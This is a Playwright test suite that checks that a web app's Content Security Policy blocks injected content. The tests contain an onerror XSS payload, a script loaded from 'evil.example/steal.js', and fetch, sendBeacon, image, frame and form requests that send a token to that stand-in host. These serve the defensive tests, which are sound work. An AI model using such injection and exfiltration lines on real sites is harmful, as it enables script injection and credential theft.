import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures/test";

const VIOLATION = /Content.Security.Policy/i;

/** Runs `act` in the page and returns the directives that it violates. */
async function collectViolations(page: Page, act: () => void | Promise<void>): Promise<string[]> {
  await page.evaluate(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener("securitypolicyviolation", (event) =>
      violations.push(event.effectiveDirective),
    );
  });
  await page.evaluate(act);
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations.length))
    .toBeGreaterThan(0);
  return page.evaluate(() => (window as unknown as { violations: string[] }).violations);
}

test.describe("the policy blocks injected elements", () => {
  test.beforeEach(async ({ workbench, pageErrors }) => {
    pageErrors.allow(VIOLATION);
    await workbench.open();
  });

  test("an inline script does not run", async ({ page }) => {
    const directives = await collectViolations(page, () => {
      const script = document.createElement("script");
      script.textContent = "window.injected = true";
      document.body.append(script);
    });
    expect(directives).toContain("script-src-elem");
    expect(await page.evaluate(() => "injected" in window)).toBe(false);
  });

  test("an event handler in an attribute does not run", async ({ page }) => {
    const directives = await collectViolations(page, () => {
      const container = document.createElement("div");
      container.innerHTML = '<img src="data:," onerror="window.injected = true">';
      document.body.append(container);
    });
    expect(directives).toContain("script-src-attr");
    expect(await page.evaluate(() => "injected" in window)).toBe(false);
  });

  test("a string is not evaluated as code", async ({ page }) => {
    const directives = await collectViolations(page, () => {
      setTimeout("window.injected = true");
    });
    expect(directives).toContain("script-src");
    expect(await page.evaluate(() => "injected" in window)).toBe(false);
  });

  test("a script from another site is not loaded", async ({ page }) => {
    const directives = await collectViolations(page, () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/steal.js";
      document.body.append(script);
    });
    expect(directives).toContain("script-src-elem");
  });

  test("an inline style does not apply", async ({ page }) => {
    const directives = await collectViolations(page, () => {
      const style = document.createElement("style");
      style.textContent = "body { outline: 7px solid red }";
      document.head.append(style);
    });
    expect(directives).toContain("style-src-elem");
    expect(await page.evaluate(() => getComputedStyle(document.body).outlineWidth)).not.toBe("7px");
  });

  test("fetch and sendBeacon cannot reach another host", async ({ page }) => {
    const directives = await collectViolations(page, async () => {
      await fetch("https://evil.example/?token=1", { mode: "no-cors" }).catch(() => undefined);
      navigator.sendBeacon("https://evil.example/", "token");
    });
    expect(directives).toContain("connect-src");
  });

  test("an image request cannot carry data to another host", async ({ page }) => {
    const directives = await collectViolations(page, () => {
      new Image().src = "https://evil.example/?token=1";
    });
    expect(directives).toContain("img-src");
  });

  test("a frame, a base URL and a form that lead to another host are blocked", async ({ page }) => {
    const directives = await collectViolations(page, () => {
      const container = document.createElement("div");
      container.innerHTML =
        '<iframe src="https://evil.example/"></iframe><base href="https://evil.example/">';
      document.body.append(container);
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
    });
    expect(directives).toContain("frame-src");
    expect(directives).toContain("base-uri");
    expect(new URL(page.url()).hostname).not.toBe("evil.example");
  });
});

test("a worker cannot reach another host", async ({ page, workbench, pageErrors }) => {
  pageErrors.allow(VIOLATION);
  await workbench.open();
  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
  const directive = await page.workers()[0]?.evaluate(async () => {
    const violation = new Promise<string>((resolve) => {
      self.addEventListener("securitypolicyviolation", (event) =>
        resolve((event as SecurityPolicyViolationEvent).effectiveDirective),
      );
    });
    await fetch("https://evil.example/?token=1", { mode: "no-cors" }).catch(() => undefined);
    return violation;
  });
  expect(directive).toBe("connect-src");
});

test("no page can be framed, and every page has a policy without exceptions", async ({ page, site }) => {
  for (const path of ["/", "/help/", "/setup/", "/nowhere"]) {
    const response = await page.request.get(site.url + path);
    expect(response.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
    expect(response.headers()["x-frame-options"]).toBe("DENY");
    const html = await response.text();
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1];
    expect(policy, path).toContain("default-src 'none'; script-src 'self' 'sha256-");
    expect(policy).not.toMatch(/unsafe|blob:|\s\*[\s;]/);
    expect(html).not.toMatch(/\sstyle="/);
  }
});

test("a page loads everything from its own site", async ({ page, workbench, site }) => {
  const hosts = new Set<string>();
  page.on("request", (request) => {
    if (!request.url().startsWith("data:")) hosts.add(new URL(request.url()).origin);
  });
  await workbench.open();
  await expect(workbench.samples.getByText("Valid JSON").first()).toBeVisible();
  expect([...hosts]).toEqual([site.url]);
});

test("the editor is styled and marks errors without style elements in the page", async ({
  page,
  workbench,
}) => {
  await workbench.open();
  expect(await page.locator("head style, body style").count()).toBe(0);
  await workbench.template.fill('{"a": {{nothing.there}}}');
  const squiggle = page.locator(".cm-lintRange-error");
  await expect(squiggle).toBeVisible();
  await squiggle.hover();
  await expect(page.locator(".cm-tooltip .cm-diagnostic")).toBeVisible();
  expect(await page.locator(".cm-gutters").evaluate((gutters) => getComputedStyle(gutters).position)).toBe(
    "sticky",
  );
  expect(await page.locator(".cm-content").evaluate((text) => getComputedStyle(text).whiteSpace)).toMatch(
    /break-spaces|pre-wrap/,
  );
});
